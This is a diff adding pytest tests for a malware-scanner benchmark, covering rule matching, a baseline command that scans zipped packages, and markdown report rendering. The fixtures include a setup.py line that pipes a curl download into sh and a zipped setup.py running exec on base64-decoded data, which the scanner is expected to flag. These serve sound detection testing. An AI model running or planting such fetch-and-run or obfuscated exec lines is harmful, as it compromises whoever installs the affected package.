@@ -10,6 +10,7 @@ from __future__ import annotations
 import hashlib
 import json
 import re
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -88,6 +89,33 @@ def test_baseline_applies_filetype_and_weights(tmp_path: Path) -> None:
     out = scanner.scan_bytes(b'os.system("curl -s https://a.example/x.sh | sh")\n', "setup.py")
     assert out.rules_matched >= {"DFH_BENCH_curl_sh", "DFH_BENCH_string_weight"}
     assert out.score == 4  # DFH_BENCH_string_weight's weight is the string "7": counts 0
+
+
+def test_common_rules_match_common_code() -> None:
+    common, note = rulesets.get("common")
+    assert "noisy" in note
+    scanner = BaselineScanner(common)
+    out = scanner.scan_bytes(b"import subprocess\nsubprocess.run(['ls'])\n", "tool.py")
+    assert "bench_noisy_subprocess_import" in out.rules_matched
+
+
+def test_baseline_as_a_command_writes_one_outcome_per_path(tmp_path: Path) -> None:
+    from bench.baseline import main
+
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    for origin, text in rulesets.small_sources().items():
+        (rules / origin.replace("/", "-")).write_text(text)
+    evil, plain = tmp_path / "evil.zip", tmp_path / "plain.zip"
+    for path, body in ((evil, 'exec(base64.b64decode("aGk="))\n'), (plain, "x = 1\n")):
+        with zipfile.ZipFile(path, "w") as archive:
+            archive.writestr("pkg/setup.py", body)
+    output = tmp_path / "report.json"
+    main(["--rules", str(rules), "--output", str(output), str(evil), str(plain)])
+    report = json.loads(output.read_text())
+    assert [r["path"] for r in report] == [str(evil), str(plain)]
+    assert "DFH_BENCH_exec_b64" in report[0]["rules_matched"] and report[0]["score"] > 0
+    assert report[1] == {"path": str(plain), "score": 0, "rules_matched": []}
 
 
 def test_baseline_and_engine_agree(tiny_corpus: synthetic.Corpus) -> None:
@@ -352,6 +380,51 @@ def test_report_renders_markdown_from_benchmark_json(tmp_path: Path) -> None:
     assert updated.startswith("# head\n") and updated.endswith(f"{report.END}\ntail\n")
     assert "old numbers" not in updated and "| `rust-2threads` | 1.000 |" in updated
     assert report.main([str(tmp_path / "missing.json")]) == 1
+
+
+def test_report_renders_the_engine_column_and_the_end_to_end_table(tmp_path: Path) -> None:
+    from dataclasses import asdict
+
+    from bench import report
+
+    def node(variant: str, median: float) -> summary.NodeMeasurement:
+        return summary.NodeMeasurement(variant, median, 3, 15, 15, 200_000_000, 80_000_000, "light rules")
+
+    def e2e(variant: str, median: float) -> summary.E2EMeasurement:
+        return summary.E2EMeasurement(variant, median, 5, 15, 200_000_000, "common rules", "what", "real")
+
+    rows = [node("reference-loop", 6.0), node("engine-only", 1.0), node("node-2threads", 1.05)]
+    e2e_rows = [
+        e2e("cli-table", 1.05), e2e("cli-json", 1.0), e2e("cli-sarif", 1.2), e2e("baseline-1proc", 3.0),
+        e2e("baseline-pool", 2.5), e2e("startup-python", 0.05), e2e("startup-version", 0.08),
+        e2e("startup-scan-file", 0.3),
+    ]  # fmt: skip
+    data = {
+        "benchmarks": [{"extra_info": {"node_row": asdict(r)}} for r in rows]
+        + [{"extra_info": {"e2e_row": asdict(r)}} for r in e2e_rows]
+    }
+    path = tmp_path / "out.json"
+    path.write_text(json.dumps(data))
+    text = report.render(report.load(path))
+    assert "| `node-2threads` | 1.050 | 857.1 | 190.5 | 5.71x | 0.95x |" in text
+    assert "node-2threads within 10% of engine-only (its time / the node's): **met** (0.95x)" in text
+    assert "engine-only >= 5x" not in text, "the engine row is no node: no target of its own"
+    assert "### end to end" in text and "15 distributions, 200.0 MB inflated, common rules, 5 rounds" in text
+    assert "| `cli-json` | 1.000 | 3.00x | 2.50x | what |" in text
+    assert "| `startup-version` | 0.080 | - | - | what |" in text
+    assert "cli-json >= 4x baseline-1proc: **NOT met** (3.00x)" in text
+    assert "cli-json >= 2x baseline-pool: **met** (2.50x)" in text
+    assert "cli-table within 10% of cli-json (its time / cli-table's): **met** (0.95x)" in text
+    assert "cli-sarif within 10% of cli-json (its time / cli-sarif's): **NOT met** (0.83x)" in text
+    assert "startup-version under 0.2 s: **met** (0.080 s)" in text
+    assert "startup-scan-file under 0.2 s: **NOT met** (0.300 s)" in text
+    assert "startup-python under" not in text
+    doc = tmp_path / "BENCHMARKS.md"
+    markers = ("<!-- bench-report:speed:begin -->", "<!-- bench-report:speed:end -->")
+    doc.write_text(f"{report.BEGIN}\nfull run\n{report.END}\n{markers[0]}\nold\n{markers[1]}\n")
+    assert report.main([str(path), "--update", str(doc), "--section", "speed"]) == 0
+    updated = doc.read_text()
+    assert "full run" in updated and "old" not in updated and "### end to end" in updated.split(markers[0])[1]
 
 
 # --- the fake mainframe in a child process, peak RSS --------------------------------------------------------
